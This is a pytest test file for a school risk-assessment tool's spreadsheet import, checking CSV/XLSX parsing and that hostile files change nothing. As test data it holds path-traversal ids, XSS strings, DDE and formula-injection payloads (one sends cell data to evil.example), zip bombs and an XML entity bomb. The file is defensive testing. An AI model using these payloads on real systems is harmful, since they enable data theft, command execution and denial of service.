"""`riskkit import`: German Excel CSV, dry runs, updates with history, and hostile or messy files that must change
nothing. Every bad input is checked for its exact message and for a district folder left byte-for-byte as it was."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import pytest
import yaml
from openpyxl import Workbook, load_workbook

import riskkit
from riskkit.sheets.export import export_bytes
from riskkit.sheets.importer import apply_import, plan_import
from riskkit.sheets.files import MAX_ROWS

from conftest import TODAY, files_of, run_cli

HEADER = "school_id;school_name;school_kind;assessed_on;assessed_by;risk_id;likelihood;reason;measures_in_place"


def write(folder: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_bytes(text.encode(encoding))
    return path


def problems(result) -> list[str]:
    """The problem lines of a failed import (the part after 'error: N problems found:')."""
    assert result.exit_code == 2, result.output
    lines = result.output.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("error: "))
    return [line.strip() for line in lines[start + 1 :]]


def refused(district_dir: Path, *paths: Path) -> list[str]:
    """Import the files; assert nothing in the district changed; return the problem lines without the file name."""
    before = files_of(district_dir)
    result = run_cli("import", *paths, district_dir, "--lang", "en")
    assert files_of(district_dir) == before
    return [line.split(": ", 1)[1] if line.startswith(tuple(str(p) for p in paths)) else line for line in problems(result)]


# --- CSV as German Excel writes it ---------------------------------------------------------------------------------

GERMAN = f"""{HEADER}
gs-neu;Grundschule „Am Bach“;Grundschule;01.10.2026;Anna Berg – Schulleitung;identity-theft;2,0;Passwörter werden selten geteilt;usage-rules, two-factor-auth
gs-neu;Grundschule „Am Bach“;Grundschule;01.10.2026;Anna Berg – Schulleitung;profiling;Substanziell;Übersichten auf Anordnung;
gs-neu;Grundschule „Am Bach“;Grundschule;01.10.2026;Anna Berg – Schulleitung;data-loss;;;
"""
EXPECTED = """\
school:
  id: gs-neu
  name: Grundschule „Am Bach“
  kind: primary
assessed_on: '2026-10-01'
assessed_by: Anna Berg – Schulleitung
risks:
  identity-theft:
    likelihood: 2
    reason: Passwörter werden selten geteilt
    measures_in_place:
    - usage-rules
    - two-factor-auth
  profiling:
    likelihood: 3
    reason: Übersichten auf Anordnung
"""


def test_german_excel_csv_cp1252_semicolons_decimal_commas_and_level_names(district_dir, tmp_path):
    text = GERMAN.replace("\n", "\r\n")
    path = write(tmp_path, "neu.csv", text, "cp1252")
    result = run_cli("import", path, district_dir)
    assert result.exit_code == 0, result.output
    assert result.output == f"neu: gs-neu ({path})\n"
    assert (district_dir / "schools" / "gs-neu.yaml").read_text(encoding="utf-8") == EXPECTED
    assert riskkit.load_district(district_dir).school("gs-neu").risks["profiling"].likelihood == 3


def test_utf8_with_bom_commas_english_levels_and_iso_dates(district_dir, tmp_path):
    text = GERMAN.replace(";", ",").replace("01.10.2026", "2026-10-01").replace("2,0", "limited")
    text = text.replace("Substanziell", "significant").replace("usage-rules, two-factor-auth", '"usage-rules, two-factor-auth"')
    text = text.replace("Grundschule,", "primary,", 3)
    result = run_cli("import", write(tmp_path, "neu.csv", text, "utf-8-sig"), district_dir)
    assert result.exit_code == 0, result.output
    assert (district_dir / "schools" / "gs-neu.yaml").read_text(encoding="utf-8") == EXPECTED


# --- created, updated, unchanged -----------------------------------------------------------------------------------

@pytest.fixture
def edited_export(district_dir, tmp_path) -> Path:
    """The sample's own export (English columns) with gs-kleeblatt's identity-theft likelihood 2 -> 4 and a new
    school gs-neu (a copy of gs-sonnenhuegel's rows)."""
    import csv
    import io

    data = export_bytes(riskkit.load_district(district_dir), "csv", TODAY, lang="en").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    at = rows[0].index("likelihood")
    for row in rows:
        if row[:1] == ["gs-kleeblatt"] and "identity-theft" in row:
            assert row[at] == "2"
            row[at] = "4"
    new = [["gs-neu", *row[1:]] for row in rows if row[:1] == ["gs-sonnenhuegel"]]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows + new)
    return write(tmp_path, "edited.csv", buffer.getvalue())


def test_dry_run_shows_created_updated_unchanged_and_writes_nothing(district_dir, edited_export):
    before = files_of(district_dir)
    result = run_cli("import", edited_export, district_dir, "--dry-run")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert f"geändert: gs-kleeblatt ({edited_export})" in lines
    assert lines[lines.index(f"geändert: gs-kleeblatt ({edited_export})") + 1] == "    risks.identity-theft.likelihood: 2 -> 4"
    assert f"neu: gs-neu ({edited_export})" in lines
    assert sum(line.startswith("unverändert: ") for line in lines) == 11
    assert lines[-1] == "Probelauf: nichts wurde geschrieben."
    assert files_of(district_dir) == before


def test_update_keeps_the_previous_file_in_history(district_dir, edited_export):
    old = (district_dir / "schools" / "gs-kleeblatt.yaml").read_bytes()
    district = riskkit.load_district(district_dir)
    outcomes, rejected, found = plan_import(district, [edited_export])
    assert (rejected, found) == ([], [])
    done = apply_import(district, outcomes, now=datetime(2026, 11, 23, 9, 30, 1, 5, tzinfo=timezone.utc))
    updated = [o for o in done if o.action == "updated"]
    assert [(o.school_id, o.changes) for o in updated] == [("gs-kleeblatt", ("risks.identity-theft.likelihood: 2 -> 4",))]
    history = district_dir / "schools" / ".history" / "gs-kleeblatt.20261123T093001000005Z.yaml"
    assert updated[0].previous == history
    assert history.read_bytes() == old
    expected = yaml.safe_load(old)
    expected["risks"]["identity-theft"]["likelihood"] = 4
    assert yaml.safe_load((district_dir / "schools" / "gs-kleeblatt.yaml").read_bytes()) == expected
    reloaded = riskkit.load_district(district_dir)
    assert list(reloaded.schools) == list(district.schools) and len(reloaded.schools) == 13
    assert reloaded.school("gs-neu").risks == reloaded.school("gs-sonnenhuegel").risks


def test_cli_update_prints_the_history_copy(district_dir, edited_export):
    result = run_cli("import", edited_export, district_dir)
    assert result.exit_code == 0, result.output
    line = next(line for line in result.output.splitlines() if line.startswith("geändert: gs-kleeblatt"))
    assert line.startswith(f"geändert: gs-kleeblatt ({edited_export}); vorherige Fassung: schools/.history/gs-kleeblatt.2")
    assert len(list((district_dir / "schools" / ".history").iterdir())) == 1
    again = run_cli("import", edited_export, district_dir)
    assert again.output.count("unverändert: ") == 13


def test_a_school_with_errors_is_not_written_but_a_good_one_is(district_dir, tmp_path):
    good = write(tmp_path, "good.csv", GERMAN, "cp1252")
    bad = write(tmp_path, "bad.csv", GERMAN.replace("gs-neu", "gs-alt").replace("2,0", "5"), "cp1252")
    result = run_cli("import", good, bad, district_dir, "--lang", "en")
    assert problems(result) == [
        f"{bad}: row 2, column likelihood: not a level; allowed: 1-4 or geringfügig, überschaubar, substanziell, groß"
        " / negligible, limited, significant, major (got '5')"]
    assert result.output.splitlines()[:2] == [f"neu: gs-neu ({good})", f"nicht übernommen (Fehler): gs-alt ({bad})"]
    assert (district_dir / "schools" / "gs-neu.yaml").is_file()
    assert not (district_dir / "schools" / "gs-alt.yaml").exists()


def test_every_problem_of_a_file_is_reported_at_once_with_its_cell(district_dir, tmp_path):
    text = f"""{HEADER}
gs-neu;Grundschule Neu;Gymnasiun;2026-13-01;Anna Berg;identity-theft;hoch;;log-deletion
gs-neu;Grundschule Neu;Gymnasiun;2026-13-01;Anna Berg;profiling;2;Grund;foo
gs-neu;Andere Schule;Gymnasiun;2026-13-01;Anna Berg;no-such-risk;2;Grund;
gs-neu;Grundschule Neu;Gymnasiun;2026-13-01;Anna Berg;profiling;2;Grund;
"""
    # the kinds of school as the sample district (Niedersachsen) names them in district.yaml
    allowed_kinds = ("primary (Grundschule), secondary (Oberschule, Haupt- oder Realschule), grammar (Gymnasium),"
                     " comprehensive (Gesamtschule (IGS/KGS)), special-needs (Förderschule / Förderzentrum), vocational"
                     " (Berufsbildende Schule), other (sonstige Schule)")
    assert refused(district_dir, write(tmp_path, "neu.csv", text)) == [
        "row 4, column school_name: differs from row 2, column school_name ('Grundschule Neu'); a school's details"
        " must be the same on all its rows (got 'Andere Schule')",
        f"row 2, column school_kind: unknown kind of school; allowed: {allowed_kinds} (got 'Gymnasiun')",
        "row 2, column assessed_on: not a date; allowed: YYYY-MM-DD or DD.MM.YYYY (got '2026-13-01')",
        "row 2, column likelihood: not a level; allowed: 1-4 or geringfügig, überschaubar, substanziell, groß"
        " / negligible, limited, significant, major (got 'hoch')",
        "row 5, column risk_id: risk profiling is listed twice for this school (also row 3, column risk_id)"
        " (got 'profiling')",
        "row 2, column reason: required; the cell is empty (got None)",
        "row 2, column measures_in_place: measure does not lower this risk; allowed for this risk: usage-rules,"
        " admin-obligation, two-factor-auth, log-evaluation (got 'log-deletion')",  # 1.1.0: not minimal-master-data
        "row 3, column measures_in_place: unknown measure id; allowed for this risk: admin-obligation, log-deletion,"
        " head-not-admin, separate-installation, no-out-of-class-monitoring (got 'foo')",
        "row 4, column risk_id: unknown risk id; allowed: discrimination-exposure, identity-theft, profiling, data-loss,"
        " vc-recording, vc-content-exposure, vc-operator-data, mail-misdirected, messenger-bullying, files-overshared,"
        " logs-monitoring, admin-misuse, third-party-addons, leaver-data-retained, admin-data-on-platform,"
        " private-devices, vendor-remote-maintenance, initial-password-birthdate, name-search-disclosure,"
        " multi-school-administration, vc-counselling-exposure, admin-actions-unlogged (got 'no-such-risk')",
    ]


# --- hostile ids, text and formulas ----------------------------------------------------------------------------------

ID_RULE = ("school id must be 1-64 characters a-z, 0-9, '-' or '_', starting and ending with a letter or digit"
           " (it becomes a file name)")


@pytest.mark.parametrize("school_id,message", [
    ("../evil", ID_RULE),
    ("schools/gs-x", ID_RULE),
    ("..", ID_RULE),
    ("C:\\\\temp\\\\x", ID_RULE),
    ("con", "school id must not be a reserved device name (con, prn, aux, nul, com0-9, lpt0-9)"),
    ("lpt1", "school id must not be a reserved device name (con, prn, aux, nul, com0-9, lpt0-9)"),
])
def test_path_like_and_reserved_school_ids_are_refused(district_dir, tmp_path, school_id, message):
    path = write(tmp_path, "x.csv", GERMAN.replace("gs-neu", school_id))
    assert refused(district_dir, path) == [f"row 2, column school_id: {message} (got {school_id!r})"]
    assert not (tmp_path / "evil.yaml").exists() and not (district_dir / "evil.yaml").exists()


def test_ids_differing_only_in_case_or_unicode_form_are_refused_with_a_hint(district_dir, tmp_path):
    upper = write(tmp_path, "upper.csv", GERMAN.replace("gs-neu", "GS-Kleeblatt"))
    wide = write(tmp_path, "wide.csv", GERMAN.replace("gs-neu", "gs-ｋleeblatt"))  # fullwidth k
    composed = write(tmp_path, "composed.csv", GERMAN.replace("gs-neu", "gs-m\u00fcller"))
    decomposed = write(tmp_path, "decomposed.csv", GERMAN.replace("gs-neu", "gs-mu\u0308ller"))
    assert refused(district_dir, upper, wide, composed, decomposed) == [
        f"row 2, column school_id: {ID_RULE} (ids differ only in case or Unicode form: gs-kleeblatt, gs-ｋleeblatt)"
        " (got 'GS-Kleeblatt')",
        f"row 2, column school_id: {ID_RULE} (ids differ only in case or Unicode form: GS-Kleeblatt, gs-kleeblatt)"
        " (got 'gs-ｋleeblatt')",
        f"row 2, column school_id: {ID_RULE} (ids differ only in case or Unicode form: gs-mu\u0308ller) (got 'gs-m\u00fcller')",
        f"row 2, column school_id: {ID_RULE} (ids differ only in case or Unicode form: gs-m\u00fcller) (got 'gs-mu\u0308ller')",
    ]


def test_the_same_school_in_two_files_is_refused(district_dir, tmp_path):
    one, two = write(tmp_path, "one.csv", GERMAN), write(tmp_path, "two.csv", GERMAN)
    assert refused(district_dir, one, two) == [
        f"row 2, column school_id: school gs-neu is in this import more than once (also {two}, row 2, column school_id);"
        " import it once (got 'gs-neu')",
        f"row 2, column school_id: school gs-neu is in this import more than once (also {one}, row 2, column school_id);"
        " import it once (got 'gs-neu')",
    ]


SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)> & &amp;"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"klick")', "+49 30 1234", "-2+3", "@SUM(A1:A3)", "=cmd|' /C calc'!A0"]


def test_html_and_formulas_in_free_text_stay_text(district_dir, tmp_path):
    rows = [HEADER.replace(";", ",")]
    risks = ["identity-theft", "profiling", "data-loss", "vc-recording", "mail-misdirected", "admin-misuse"]
    for risk, reason in zip(risks, [SCRIPT, *FORMULAS]):
        quoted = reason.replace('"', '""')
        rows.append(f'gs-neu,{SCRIPT.replace(",", "")},primary,2026-10-01,Anna,{risk},2,"{quoted}",')
    result = run_cli("import", write(tmp_path, "hostile.csv", "\n".join(rows)), district_dir)
    assert result.exit_code == 0, result.output
    district = riskkit.load_district(district_dir)
    school = district.school("gs-neu")
    assert school.school.name == SCRIPT.replace(",", "")
    assert [school.risks[r].reason for r in risks] == [SCRIPT, *FORMULAS]
    exported = export_bytes(district, "csv", TODAY).decode("utf-8-sig")  # German: ';' and every text quoted
    assert "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"klick\"\")\"" in exported
    assert ";\"'+49 30 1234\";" in exported and ";\"'-2+3\";" in exported and ";\"'@SUM(A1:A3)\";" in exported
    assert ";\"'=cmd|' /C calc'!A0\";" in exported


def test_a_formula_cell_in_an_xlsx_is_read_as_its_text_never_evaluated(district_dir, tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER.split(";"))
    sheet.append(["gs-neu", "Neue Schule", "primary", "2026-10-01", "Anna", "identity-theft", "=1+1", "=A1", None])
    sheet.append(["gs-neu", "Neue Schule", "primary", "2026-10-01", "Anna", "profiling", 2, '=WEBSERVICE("http://x")', None])
    path = tmp_path / "formulas.xlsx"
    book.save(path)
    assert refused(district_dir, path) == [
        "Sheet!row 2, column likelihood: not a level; allowed: 1-4 or geringfügig, überschaubar, substanziell, groß"
        " / negligible, limited, significant, major (got '=1+1')"]
    path2 = tmp_path / "formula-text.xlsx"
    sheet["G2"] = 1
    book.save(path2)
    assert run_cli("import", path2, district_dir).exit_code == 0
    school = riskkit.load_district(district_dir).school("gs-neu")
    assert (school.risks["identity-theft"].reason, school.risks["profiling"].reason) == ("=A1", '=WEBSERVICE("http://x")')


# --- messy and broken files ------------------------------------------------------------------------------------------

def xlsx_bytes(rows: list[list], merge: str | None = None) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    if merge:
        book.active.merge_cells(merge)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


GOOD_ROWS = [HEADER.split(";"), ["gs-neu", "Neue Schule", "primary", "2026-10-01", "Anna", "identity-theft", 2, "Grund", None],
             ["gs-neu", "Neue Schule", "primary", "2026-10-01", "Anna", "profiling", 3, "Grund", None]]


LATIN_AT = GERMAN.encode("cp1252").index(b"\x84")  # the first „, which cp1252 has and a stray 0x81 replaces


@pytest.mark.parametrize("name,content,expected", [
    ("empty.csv", b"", "file is empty (got None)"),
    ("blank.csv", b"\r\n \r\n", "file is empty (got None)"),
    ("empty.xlsx", b"", "file is empty (got None)"),
    ("header.csv", (HEADER + "\r\n").encode(), "row 1: no data rows below the header row (got None)"),
    ("header.xlsx", xlsx_bytes(GOOD_ROWS[:1]), "Sheet!row 1: no data rows below the header row (got None)"),
    ("blank-header.csv", b"\r\n" + GERMAN.encode(), "row 1: row 1 must hold the column headers (got None)"),
    ("binary.xlsx", bytes(range(256)) * 64,
     "not a readable XLSX file (damaged, truncated or another format): File is not a zip file (got None)"),
    ("binary.csv", bytes(range(256)) * 64,
     "binary file, not CSV text; save the table as CSV (UTF-8 or Windows-1252) (got None)"),
    ("latin.csv", GERMAN.encode("cp1252").replace(b"\x84", b"\x81"),
     f"byte {LATIN_AT}: not text in UTF-8 or Windows-1252 (got b'\\x81')"),
    ("data.ods", b"PK\x03\x04", "unsupported file type; allowed: .csv, .xlsx (got '.ods')"),
])
def test_empty_binary_and_undecodable_files_are_refused(district_dir, tmp_path, name, content, expected):
    path = tmp_path / name
    path.write_bytes(content)
    assert refused(district_dir, path) == [expected]


def test_a_truncated_xlsx_is_refused(district_dir, tmp_path):
    data = xlsx_bytes(GOOD_ROWS)
    path = tmp_path / "cut.xlsx"
    path.write_bytes(data[: len(data) // 2])
    assert refused(district_dir, path) == [
        "not a readable XLSX file (damaged, truncated or another format): File is not a zip file (got None)"]


def test_a_zip_that_is_not_a_workbook_is_refused(district_dir, tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    path = tmp_path / "other.xlsx"
    path.write_bytes(buffer.getvalue())
    assert refused(district_dir, path) == [
        "not a readable XLSX file (damaged, truncated or another format): There is no item named"
        " 'xl/workbook.xml' in the archive (got None)"]


def test_extra_and_missing_columns_are_refused(district_dir, tmp_path):
    text = GERMAN.replace("school_kind;", "").replace(";Grundschule;", ";", 3).replace("reason;", "reasn;")
    message = refused(district_dir, write(tmp_path, "cols.csv", text))
    assert message[0].startswith("row 1, column reasn: unknown column; allowed: school_id, school_name, school_kind,"
                                 " assessed_on, assessed_by, catalogue_version, risk_id, likelihood, reason,")
    assert message[0].endswith("review_overdue (got 'reasn')")
    assert message[1:] == ["row 1: required column 'school_kind' is missing (got None)",
                           "row 1: required column 'reason' is missing (got None)"]


def test_a_value_under_no_header_is_refused(district_dir, tmp_path):
    text = GERMAN.replace("two-factor-auth\n", "two-factor-auth;;extra\n", 1)
    assert refused(district_dir, write(tmp_path, "extra.csv", text)) == [
        "row 2, column #11: value in a column without a header (got 'extra')"]


def test_merged_cells_in_a_flat_xlsx_are_refused(district_dir, tmp_path):
    path = tmp_path / "merged.xlsx"
    path.write_bytes(xlsx_bytes(GOOD_ROWS, merge="B2:B3"))
    assert refused(district_dir, path) == [
        "Sheet!B2:B3: merged cells are not allowed; unmerge them and fill every cell (got 'B2:B3')"]


def test_merged_cells_in_a_filled_template_are_refused(district_dir, tmp_path):
    template = tmp_path / "t.xlsx"
    assert run_cli("template", district_dir, "-o", template, "--school", "gs-kleeblatt").exit_code == 0
    book = load_workbook(template)
    book["Risiken"].merge_cells("G2:G3")
    book.save(template)
    assert refused(district_dir, template) == [
        "Risiken!G2:G3: merged cells are not allowed; unmerge them and fill every cell (got 'G2:G3')"]


def test_a_100k_row_csv_is_refused_with_the_row_limit(district_dir, tmp_path):
    line = "gs-neu;Neue Schule;primary;2026-10-01;Anna;identity-theft;2;Grund;\n"
    path = write(tmp_path, "huge.csv", HEADER + "\n" + line * 100_000)
    assert refused(district_dir, path) == [
        f"too many rows; at most {MAX_ROWS} data rows per file, split it (got 'more than {MAX_ROWS} rows')"]


def test_an_xlsx_over_the_row_limit_is_refused(district_dir, tmp_path, monkeypatch):
    monkeypatch.setattr("riskkit.sheets.files.MAX_ROWS", 50)
    path = tmp_path / "long.xlsx"
    path.write_bytes(xlsx_bytes(GOOD_ROWS[:1] + [GOOD_ROWS[1]] * 51))
    assert refused(district_dir, path) == ["too many rows; at most 50 data rows per file, split it (got 'more than 50 rows')"]


def test_a_template_with_a_bad_yes_cell_and_unknown_planned_measure_is_refused(district_dir, tmp_path):
    template = tmp_path / "t.xlsx"
    assert run_cli("template", district_dir, "-o", template, "--school", "gs-kleeblatt").exit_code == 0
    book = load_workbook(template)
    book["Risiken"]["K2"] = "vielleicht"  # the first measure's column
    last = book["Geplante Maßnahmen"].max_row
    book["Geplante Maßnahmen"].append(["Profilbildung", "Zauberei", "IT", "2027-01-01", None])
    book["Geplante Maßnahmen"].append(["Kein Risiko", "Zauberei", "IT", "2027-01-01", None])
    book.save(template)
    assert refused(district_dir, template) == [
        "Risiken!row 2, column Nutzerordnung mit Konsequenzen: not yes or partly; allowed: ja, 'teilweise: <scope>'"
        " or empty (got 'vielleicht')",
        f"Geplante Maßnahmen!row {last + 2}, column Risiko: unknown risk; allowed: the risks' titles in the drop-down"
        " (got 'Kein Risiko')",
        f"Geplante Maßnahmen!row {last + 1}, column Maßnahme: unknown measure id; allowed for this risk: admin-obligation,"
        " log-deletion, head-not-admin, separate-installation, no-out-of-class-monitoring (got 'Zauberei')",
    ]


# --- hostile files: zip bombs and giant cells, each refused with its place -----------------------------------------

def test_an_xlsx_with_thousands_of_files_inside_is_refused(district_dir, tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for i in range(1001):
            archive.writestr(f"x/{i}.xml", "")
    path = tmp_path / "many.xlsx"
    path.write_bytes(buffer.getvalue())
    assert refused(district_dir, path) == ["not a plain XLSX; at most 1000 files inside (got '1001 files inside')"]


def test_an_xlsx_that_unpacks_to_gigabytes_is_refused_before_unpacking(district_dir, tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * 120_000_000)  # ~120 KB compressed
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(buffer.getvalue())
    assert path.stat().st_size < 1_000_000
    assert refused(district_dir, path) == [
        "XLSX too large; at most 100000000 bytes unpacked (got '120000000 bytes unpacked')"]


def test_an_xlsx_sheet_with_an_entity_bomb_is_refused(district_dir, tmp_path):
    bomb = ('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lollollollollollollollollollol">'
            + "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi"))
            + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
              '<row r="1"><c r="A1" t="inlineStr"><is><t>&i;</t></is></c></row></sheetData></worksheet>')
    source = io.BytesIO(xlsx_bytes(GOOD_ROWS))
    buffer = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(buffer, "w") as archive:
        for info in original.infolist():
            data = bomb.encode() if info.filename == "xl/worksheets/sheet1.xml" else original.read(info)
            archive.writestr(info.filename, data)
    path = tmp_path / "entities.xlsx"
    path.write_bytes(buffer.getvalue())
    lines = refused(district_dir, path)
    assert len(lines) == 1 and lines[0].startswith("not a readable XLSX file"), lines
    assert len(lines[0]) < 300


def test_a_giant_cell_is_refused_at_its_cell(district_dir, tmp_path):
    rows = [row[:] for row in GOOD_ROWS]
    rows[2][7] = "GIANT"
    buffer = io.BytesIO()  # openpyxl cuts what it writes to 32,767 characters: put the giant text in by hand
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(rows))) as original, zipfile.ZipFile(buffer, "w") as archive:
        for info in original.infolist():
            archive.writestr(info.filename, original.read(info).replace(b"GIANT", b"x" * 40_000))
    path = tmp_path / "giant.xlsx"
    path.write_bytes(buffer.getvalue())
    rows[2][7] = "x" * 40_000
    assert refused(district_dir, path) == [
        "Sheet!row 3, column H: cell too long; at most 32767 characters per cell (got '40000 characters')"]
    csv_path = write(tmp_path, "giant.csv", "\n".join(";".join(map(str, (c or "" for c in r))) for r in rows) + "\n")
    assert refused(district_dir, csv_path) == [
        "row 3, column 8: cell too long; at most 32767 characters per cell (got '40000 characters')"]
    huge = write(tmp_path, "huge.csv", HEADER + "\n" + "a;" + "y" * 200_000 + "\n")
    assert refused(district_dir, huge) == [
        "row 2: cell too long; at most 32767 characters per cell (got 'more than 32767 characters')"]
